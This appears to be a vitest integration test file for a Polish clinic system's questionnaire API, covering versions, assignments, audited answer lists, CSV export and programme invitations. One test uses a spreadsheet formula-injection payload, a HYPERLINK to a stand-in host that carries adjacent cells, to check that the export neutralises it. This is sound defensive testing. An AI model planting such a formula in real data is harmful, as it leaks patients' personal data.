import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { outbox, programInvitations, staffReads } from '../../../db/schema/index';
import { createTestApp, type TestApp } from '../../../test/helper';
import { clinicMember, demoUnitIds } from '../../../test/clinic-members';
import { clinicDayYearsAgo, ownPatientIdOf } from '../../../test/fixtures';
import { isFormula, readCsv } from '../../../test/spreadsheet-csv';
import { adminCookie, everyFormat, goodAnswers, makeProgram, makeQuestionnaire } from '../../../test/questionnaire-kit';

/** The clinic console's questionnaires: versions, assignments, answers (list, per patient, CSV), programmes and invitations; and the seed. */

let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = await adminCookie(t);
});
afterAll(() => t.close());

const call = (method: 'GET' | 'POST' | 'PUT', url: string, payload?: object, cookie = admin) => t.request({ method, url: `/api${url}`, payload, cookie });

describe('questionnaires and their versions', () => {
  it('creates, lists, finds and versions a questionnaire; identical content makes no version', async () => {
    const q = await makeQuestionnaire(t, admin, everyFormat({ title: 'Ankieta wersjonowana' }));
    expect(q).toMatchObject({ version: 1, active: true, deadlineDays: 7, assignments: { serviceCodes: [], specialities: [], programIds: [] } });
    const untranslated = { labelEn: null, labelUk: null };
    expect(q.sections[1].questions[2].options).toEqual([
      { value: 'KASZEL', label: 'Kaszel', ...untranslated },
      { value: 'GORACZKA', label: 'Gorączka', ...untranslated },
      { value: 'ŻÓŁĆ', label: 'Żółtaczka', ...untranslated },
    ]);
    const same = await call('PUT', `/clinic/questionnaires/${q.id}`, everyFormat({ title: 'Ankieta wersjonowana' }));
    expect(same.json()).toMatchObject({ version: 1, versionId: q.versionId });
    const next = await call('PUT', `/clinic/questionnaires/${q.id}`, everyFormat({ title: 'Ankieta wersjonowana', deadlineDays: 10 }));
    expect(next.json()).toMatchObject({ version: 2, deadlineDays: 10 });
    const list = await call('GET', '/clinic/questionnaires?q=wersjonowana');
    expect(list.json().items).toEqual([expect.objectContaining({ id: q.id, version: 2, questionCount: 6, fulfillmentCount: 0 })]);
    const off = await call('PUT', `/clinic/questionnaires/${q.id}/active`, { active: false });
    expect(off.json().active).toBe(false);
    expect((await call('GET', '/clinic/questionnaires?q=wersjonowana&active=true')).json().items).toEqual([]);
    expect((await call('GET', '/clinic/questionnaires/999999')).statusCode).toBe(404);
    expect((await call('PUT', '/clinic/questionnaires/999999', everyFormat())).statusCode).toBe(404);
  });

  it('refuses a definition that breaks the rules (400) and writes by anyone but an administrator (403)', async () => {
    const doubled = everyFormat();
    doubled.sections[1].questions[0].orderNumber = 1;
    expect((await call('POST', '/clinic/questionnaires', doubled)).json().errors).toContainEqual({ path: 'sections.1.questions.0.orderNumber', message: 'Numery pytań nie mogą się powtarzać' });
    const doctor = await clinicMember(t, ['DOCTOR']);
    expect((await call('POST', '/clinic/questionnaires', everyFormat(), doctor.cookie)).statusCode).toBe(403);
    expect((await call('GET', '/clinic/questionnaires', undefined, doctor.cookie)).statusCode).toBe(200);
  });
});

describe('issue 28 item 14: section "fields may stay empty" and date rules', () => {
  it('refuses a required question in a section whose fields may stay empty (400 at the question), on create and on a new version', async () => {
    const optional = everyFormat({ title: 'Ankieta z polami opcjonalnymi' });
    optional.sections[0] = { ...optional.sections[0], fieldsMayStayEmpty: true };
    const created = await call('POST', '/clinic/questionnaires', optional);
    expect(created.statusCode).toBe(400);
    expect(created.json().errorCode).toBe('VALIDATION_ERROR');
    expect(created.json().errors).toEqual(
      expect.arrayContaining([
        { path: 'sections.0.questions.0.required', message: 'Sekcja, której pola mogą pozostać puste, nie może mieć pytań wymaganych' },
        { path: 'sections.0.questions.1.required', message: 'Sekcja, której pola mogą pozostać puste, nie może mieć pytań wymaganych' },
      ]),
    );
    const q = await makeQuestionnaire(t, admin, everyFormat({ title: 'Ankieta z polami opcjonalnymi' }));
    expect((await call('PUT', `/clinic/questionnaires/${q.id}`, optional)).statusCode).toBe(400);
    optional.sections[0] = { ...optional.sections[0], questions: optional.sections[0].questions.map((question) => ({ ...question, required: false })) };
    const saved = await call('PUT', `/clinic/questionnaires/${q.id}`, optional);
    expect(saved.statusCode).toBe(200);
    expect(saved.json().sections[0].fieldsMayStayEmpty).toBe(true);
  });

  it('keeps the date rule the editor sets, not in the future by default', async () => {
    const dated = everyFormat({ title: 'Ankieta z regułą daty' });
    const q = await makeQuestionnaire(t, admin, dated);
    expect(q.sections[1].questions[0].dateRule).toBe('PAST');
    dated.sections[1].questions[0] = { ...dated.sections[1].questions[0], dateRule: 'FUTURE' };
    expect((await call('PUT', `/clinic/questionnaires/${q.id}`, dated)).json().sections[1].questions[0].dateRule).toBe('FUTURE');
    expect((await call('PUT', `/clinic/questionnaires/${q.id}`, { ...dated, sections: [{ ...dated.sections[1], questions: [{ ...dated.sections[1].questions[0], dateRule: 'LATER' }] }] })).statusCode).toBe(400);
  });

  it('seeds the programme questionnaire with its optional section free of required questions and its date question under a rule', async () => {
    const list = (await call('GET', '/clinic/questionnaires?q=profilaktyki')).json();
    const full = (await call('GET', `/clinic/questionnaires/${list.items[0].id}`)).json();
    const optional = full.sections.find((s: { fieldsMayStayEmpty: boolean }) => s.fieldsMayStayEmpty);
    expect(optional.title).toBe('Pomiary i badania');
    expect(optional.questions.every((q: { required: boolean }) => !q.required)).toBe(true);
    expect(optional.questions.find((q: { format: string }) => q.format === 'DATE').dateRule).toBe('PAST');
  });
});

describe('assignments', () => {
  it('attaches services and unit specialities; unknown ones are 400, taken ones 409 naming the other questionnaire', async () => {
    const { primaryCare } = await demoUnitIds(t);
    const a = await makeQuestionnaire(t, admin, everyFormat({ title: 'Ankieta A' }));
    const b = await makeQuestionnaire(t, admin, everyFormat({ title: 'Ankieta B' }));
    const put = (id: number, body: object) => call('PUT', `/clinic/questionnaires/${id}/assignments`, body);
    const ok = await put(a.id, { serviceCodes: ['POZ-OPATRUNEK', 'POZ-OPATRUNEK'], specialities: [{ unitId: primaryCare, speciality: 'PIELEGNIARSTWO_RODZINNE' }, { unitId: null, speciality: 'PIELEGNIARSTWO_RODZINNE' }] });
    expect(ok.json()).toEqual({ serviceCodes: ['POZ-OPATRUNEK'], specialities: expect.arrayContaining([{ unitId: primaryCare, speciality: 'PIELEGNIARSTWO_RODZINNE' }, { unitId: null, speciality: 'PIELEGNIARSTWO_RODZINNE' }]), programIds: [] });
    expect((await call('GET', `/clinic/questionnaires/${a.id}/assignments`)).json()).toEqual(ok.json());
    const unknown = await put(b.id, { serviceCodes: ['NIE-MA'], specialities: [{ unitId: 999999, speciality: 'NIE_MA' }] });
    expect(unknown.statusCode).toBe(400);
    expect(unknown.json().errors).toEqual([
      { path: 'serviceCodes.0', message: 'Nie ma świadczenia o kodzie NIE-MA.' },
      { path: 'specialities.0.unitId', message: 'Wybierz jednostkę z listy.' },
      { path: 'specialities.0.speciality', message: 'Wybierz specjalność ze słownika.' },
    ]);
    const taken = await put(b.id, { serviceCodes: ['POZ-OPATRUNEK'], specialities: [] });
    expect(taken.statusCode).toBe(409);
    expect(taken.json().message).toBe('Świadczenie POZ-OPATRUNEK ma już ankietę „Ankieta A”. Odłącz ją najpierw od tamtej ankiety.');
    const takenSpeciality = await put(b.id, { serviceCodes: [], specialities: [{ unitId: null, speciality: 'PIELEGNIARSTWO_RODZINNE' }] });
    expect(takenSpeciality.json().message).toContain('„Ankieta A”');
    expect((await put(a.id, { serviceCodes: [], specialities: [] })).statusCode).toBe(200);
    expect((await put(b.id, { serviceCodes: ['POZ-OPATRUNEK'], specialities: [] })).statusCode).toBe(200);
  });

  it('answers 404 for a booking and a visit that do not exist', async () => {
    const cookie = await t.login('anna');
    for (const url of ['/mpi/questionnaires/for-encounters/999999', '/mpi/questionnaires/for-encounters/999999/exists', '/mpi/questionnaires/for-bookings/byBookingId/999999', '/mpi/questionnaires/for-bookings/999999/PORTAL/is-fulfilled']) {
      expect((await call('GET', url, undefined, cookie)).statusCode, url).toBe(404);
    }
  });
});

describe('answers: list, per patient, CSV', () => {
  it('lists and exports the seeded programme answers with Polish letters, BOM and semicolons', async () => {
    const programs = (await call('GET', '/clinic/programs')).json();
    const chuk = programs.find((p: { name: string }) => p.name === 'Profilaktyka chorób układu krążenia (CHUK)');
    expect(chuk).toMatchObject({ minAge: 35, maxAge: 65, gender: 'ANY', active: true, invitedCount: 1, fulfilledCount: 2 });
    const page = await call('GET', `/clinic/questionnaires/${chuk.questionnaireId}/fulfillments`);
    expect(page.json().items).toHaveLength(2);
    const piotr = page.json().items.find((f: { patient: { lastName: string } }) => f.patient.lastName === 'Zieliński');
    expect(piotr).toMatchObject({ version: 1, context: { kind: 'PROGRAM', system: 'PORTAL', label: 'Profilaktyka chorób układu krążenia (CHUK)' }, patient: { name: 'Piotr', pesel: '79070203178' } });
    expect(piotr.answers).toContainEqual({ orderNumber: 6, question: expect.stringContaining('rodziców'), format: 'MULTIPLE_CHOICE', answer: 'zawał serca, nadciśnienie tętnicze' });
    const csv = await call('GET', `/clinic/questionnaires/${chuk.questionnaireId}/fulfillments.csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="ankieta_${chuk.questionnaireId}_odpowiedzi.csv"`);
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header, ...rows] = csv.rawPayload.subarray(3).toString('utf8').trim().split('\r\n');
    expect(header).toBe('Data wypełnienia;Pacjent;PESEL;Kontekst;Wersja ankiety;1. Wzrost (cm);2. Masa ciała (kg);3. Ciśnienie skurczowe (mmHg) z ostatniego pomiaru;4. Data ostatniego badania cholesterolu;5. Czy palisz papierosy?;6. Czy u rodziców lub rodzeństwa wystąpiły przed 55. (mężczyźni) lub 65. (kobiety) rokiem życia:;7. Ile dni w tygodniu ćwiczysz lub szybko spacerujesz co najmniej 30 minut?;8. Uwagi dla przychodni (np. dogodne dni na badania)');
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r.includes('Zieliński'))).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2};Zieliński Piotr;79070203178;Program: Profilaktyka chorób układu krążenia \(CHUK\);1;181;92,5;138;2025-11-04;Rzuciłem\/am;zawał serca, nadciśnienie tętnicze;2;Najlepiej wtorki po 16:00\.$/);
    // The export holds what the answers page shows: the same days.
    const old = await call('GET', `/clinic/questionnaires/${chuk.questionnaireId}/fulfillments.csv?after=2020-01-01&before=2020-12-31`);
    expect(old.rawPayload.subarray(3).toString('utf8').trim().split('\r\n')).toEqual([header]);
    const reversed = await call('GET', `/clinic/questionnaires/${chuk.questionnaireId}/fulfillments.csv?after=2020-12-31&before=2020-01-01`);
    expect(reversed.statusCode).toBe(400);
    expect(reversed.json()).toMatchObject({ errorCode: 'VALIDATION_ERROR' });
    expect((await call('GET', '/clinic/questionnaires/999999/fulfillments.csv')).statusCode).toBe(404);
    const registrar = await clinicMember(t, ['REGISTRAR']);
    expect((await call('GET', `/clinic/questionnaires/${chuk.questionnaireId}/fulfillments.csv`, undefined, registrar.cookie)).statusCode).toBe(403);
  });

  it("exports a patient's formula answer as inert text beside the other patients' intact columns", async () => {
    const q = await makeQuestionnaire(t, admin, { title: 'Ankieta z uwagami', description: null, deadlineDays: 7, sections: [{ title: 'Uwagi', questions: [{ orderNumber: 1, text: 'Uwagi', format: 'TEXT', required: true, maxLength: 200 }] }] });
    const program = await makeProgram(t, admin, q.id, { name: 'Program z uwagami' });
    const attack = '=HYPERLINK("http://zly.example/?"&B3&C3,"Kliknij")';
    for (const [lastName, text] of [['Atakujący', attack], ['Ofiara', 'Bez uwag']]) {
      const account = await t.make.account();
      const patient = await t.make.patient({ accountId: account.id, birthDate: clinicDayYearsAgo(45), lastName });
      const res = await t.request({
        method: 'POST',
        url: '/api/mppd/api/programs/questionnaire',
        cookie: await t.as(account.id),
        payload: { programPatientParams: { programId: program.id, patientId: patient.id, accountId: account.id, systemRoot: 'PORTAL', tenantId: 1 }, questionnaireFulfillment: { questionnaireId: q.versionId, answers: [{ orderNumber: 1, format: 'TEXT', value: text }] } },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    const csv = await call('GET', `/clinic/questionnaires/${q.id}/fulfillments.csv`);
    const [header, ...rows] = readCsv(csv.rawPayload.toString('utf8').trimEnd());
    expect(header).toEqual(['Data wypełnienia', 'Pacjent', 'PESEL', 'Kontekst', 'Wersja ankiety', '1. Uwagi']);
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row).toHaveLength(6);
    expect(rows.flat().filter(isFormula)).toEqual([]);
    const attacker = rows.find((r) => r[1].startsWith('Atakujący '));
    expect(attacker?.slice(3)).toEqual(['Program: Program z uwagami', '1', `'${attack}`]);
    const victim = rows.find((r) => r[1].startsWith('Ofiara '));
    expect(victim?.slice(3)).toEqual(['Program: Program z uwagami', '1', 'Bez uwag']);
    for (const row of rows) expect(row[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
  });

  it('writes one QUESTIONNAIRE_ANSWERS row per patient for the answer list and the export, shown in each patient’s access log', async () => {
    const q = await makeQuestionnaire(t, admin, everyFormat({ title: 'Ankieta audytowana' }));
    const program = await makeProgram(t, admin, q.id, { name: 'Program audytowany' });
    const people: Array<{ patientId: number; cookie: string }> = [];
    for (const lastName of ['Pierwsza', 'Druga']) {
      const account = await t.make.account();
      const patient = await t.make.patient({ accountId: account.id, birthDate: clinicDayYearsAgo(45), lastName });
      const cookie = await t.as(account.id);
      const res = await t.request({
        method: 'POST',
        url: '/api/mppd/api/programs/questionnaire',
        cookie,
        payload: { programPatientParams: { programId: program.id, patientId: patient.id, accountId: account.id, systemRoot: 'PORTAL', tenantId: 1 }, questionnaireFulfillment: goodAnswers(q.versionId) },
      });
      expect(res.statusCode, res.body).toBe(201);
      people.push({ patientId: patient.id, cookie });
    }
    const ids = people.map((p) => p.patientId).sort();
    const doctor = await clinicMember(t, ['DOCTOR']);
    const readsBy = async () => (await t.deps.db.select().from(staffReads).where(eq(staffReads.staffId, doctor.id))).map((r) => ({ patientId: r.patientId, what: r.what, requestId: r.requestId }));

    expect((await call('GET', `/clinic/questionnaires/${q.id}/fulfillments`, undefined, doctor.cookie)).statusCode).toBe(200);
    const listed = await readsBy();
    expect(listed.map((r) => r.patientId).sort()).toEqual(ids);
    expect(listed.every((r) => r.what === 'QUESTIONNAIRE_ANSWERS')).toBe(true);
    expect(new Set(listed.map((r) => r.requestId)).size).toBe(1);

    expect((await call('GET', `/clinic/questionnaires/${q.id}/fulfillments.csv`, undefined, doctor.cookie)).statusCode).toBe(200);
    const exported = (await readsBy()).slice(2);
    expect(exported.map((r) => r.patientId).sort()).toEqual(ids);
    expect(new Set(exported.map((r) => r.requestId)).size).toBe(1);

    // An export of days nobody answered names nobody and writes nothing.
    expect((await call('GET', `/clinic/questionnaires/${q.id}/fulfillments.csv?after=2020-01-01&before=2020-12-31`, undefined, doctor.cookie)).statusCode).toBe(200);
    expect(await readsBy()).toHaveLength(4);

    for (const person of people) {
      const log = (await t.request({ method: 'GET', url: '/api/mpi/accounts/mpi-user/access-log', cookie: person.cookie })).json();
      expect(log.items).toEqual([
        expect.objectContaining({ what: 'QUESTIONNAIRE_ANSWERS', staffRoles: ['DOCTOR'], patient: expect.objectContaining({ id: person.patientId }) }),
        expect.objectContaining({ what: 'QUESTIONNAIRE_ANSWERS', staffRoles: ['DOCTOR'], patient: expect.objectContaining({ id: person.patientId }) }),
      ]);
    }
  });

  it("lists a patient's answers for the clinic and audits the read", async () => {
    const piotr = await ownPatientIdOf(t, 'piotr.zielinski@example.com');
    const nurse = await clinicMember(t, ['NURSE']);
    const res = await call('GET', `/clinic/patients/${piotr}/questionnaire-fulfillments`, undefined, nurse.cookie);
    expect(res.statusCode).toBe(200);
    expect(res.json().items).toHaveLength(1);
    const audit = await t.deps.db.select().from(staffReads).where(eq(staffReads.staffId, nurse.id));
    expect(audit).toEqual([expect.objectContaining({ patientId: piotr, what: 'QUESTIONNAIRE_ANSWERS' })]);
    expect((await call('GET', '/clinic/patients/999999/questionnaire-fulfillments', undefined, nurse.cookie)).statusCode).toBe(404);
  });
});

describe('programmes and invitations', () => {
  it("Anna's seeded invitation e-mail carries the programme's link and nothing medical", async () => {
    const mails = await t.deps.db.select().from(outbox).where(eq(outbox.recipient, 'anna.kowalska@example.com'));
    const invitation = mails.find((m) => m.subject?.includes('CHUK'));
    expect(invitation?.subject).toBe('Zaproszenie do programu „Profilaktyka chorób układu krążenia (CHUK)”');
    expect(invitation?.body).toMatch(/\/questionnaire\/patient\/PORTAL\/\d+\/\d+\/\d+/);
  });

  it('invites every eligible patient once, counting the ineligible and those without an account; e-mail in the account language', async () => {
    const q = await makeQuestionnaire(t, admin);
    const program = await makeProgram(t, admin, q.id, { name: 'Program dla kobiet 40–45', minAge: 40, maxAge: 45, gender: 'FEMALE' });
    const english = await t.make.account({ language: 'en' });
    const own = await t.make.patient({ accountId: english.id, birthDate: clinicDayYearsAgo(42), gender: 'FEMALE' });
    const noAccount = await t.make.patient({ birthDate: clinicDayYearsAgo(43), gender: 'FEMALE' });
    const guardian = await t.make.account();
    const ward = await t.make.patient({ birthDate: clinicDayYearsAgo(44), gender: 'FEMALE' });
    await t.make.link(guardian.id, ward.id, { role: 'WARD', status: 'CONFIRMED' });
    const man = await t.make.patient({ birthDate: clinicDayYearsAgo(42), gender: 'MALE' });
    const invite = (body: object = {}) => call('POST', `/clinic/programs/${program.id}/invitations`, body);

    const first = await invite();
    expect(first.statusCode, first.body).toBe(200);
    expect(first.json().invited).toBeGreaterThanOrEqual(2);
    const rows = await t.deps.db.select().from(programInvitations).where(eq(programInvitations.programId, program.id));
    expect(rows.map((r) => [r.patientId, r.accountId])).toEqual(expect.arrayContaining([[own.id, english.id], [ward.id, guardian.id]]));
    expect(rows.map((r) => r.patientId)).not.toContain(noAccount.id);
    await t.deps.jobs.runDue();
    const [mail] = await t.deps.db.select().from(outbox).where(eq(outbox.recipient, english.email!));
    expect(mail.subject).toBe('Invitation to the programme “Program dla kobiet 40–45”');
    expect(mail.body).toContain(`/questionnaire/patient/PORTAL/${program.id}/${english.id}/${own.id}`);
    expect((await t.deps.db.select().from(outbox).where(eq(outbox.recipient, guardian.email!)))[0].body).toContain(`/${program.id}/${guardian.id}/${ward.id}`);
    // The invitation also waits in the guardian's messages: the clinic's own message about the ward, with the same link.
    const inbox = await t.request({ method: 'GET', url: '/api/mpi/messages/u/mpi-user/inbox', cookie: await t.as(guardian.id) });
    const [message] = inbox.json().items;
    expect(message).toMatchObject({ title: 'Zaproszenie do programu „Program dla kobiet 40–45”', sender: { kind: 'CLINIC' }, patient: { id: ward.id }, readDate: null });
    expect(message.content).toContain(`/questionnaire/patient/PORTAL/${program.id}/${guardian.id}/${ward.id}`);

    const second = await invite();
    expect(second.json()).toMatchObject({ invited: 0, alreadyInvited: first.json().invited });
    const named = await invite({ patientIds: [own.id, noAccount.id, man.id] });
    expect(named.json()).toEqual({ invited: 0, alreadyInvited: 1, ineligible: 1, withoutAccount: 1 });
    expect((await invite({ patientIds: [999999] })).statusCode).toBe(400);
    expect((await call('GET', `/clinic/programs/${program.id}`)).json().invitedCount).toBe(first.json().invited);
    const inactive = await makeProgram(t, admin, q.id, { active: false });
    expect((await call('POST', `/clinic/programs/${inactive.id}/invitations`, {})).statusCode).toBe(409);
  });

  it('changes a programme and refuses an unknown questionnaire', async () => {
    const q = await makeQuestionnaire(t, admin);
    const program = await makeProgram(t, admin, q.id);
    const body = { name: 'Nowa nazwa', description: 'Opis', questionnaireId: q.id, minAge: null, maxAge: null, gender: 'ANY', validFrom: null, validTo: null, active: true };
    expect((await call('PUT', `/clinic/programs/${program.id}`, body)).json()).toMatchObject({ name: 'Nowa nazwa', minAge: null, questionnaireTitle: 'Ankieta testowa' });
    expect((await call('PUT', `/clinic/programs/${program.id}`, { ...body, questionnaireId: 999999 })).json().errors).toEqual([{ path: 'questionnaireId', message: 'Wybierz ankietę z listy.' }]);
    expect((await call('PUT', '/clinic/programs/999999', body)).statusCode).toBe(404);
    expect((await call('GET', `/clinic/questionnaires/${q.id}/assignments`)).json().programIds).toEqual([program.id]);
  });
});
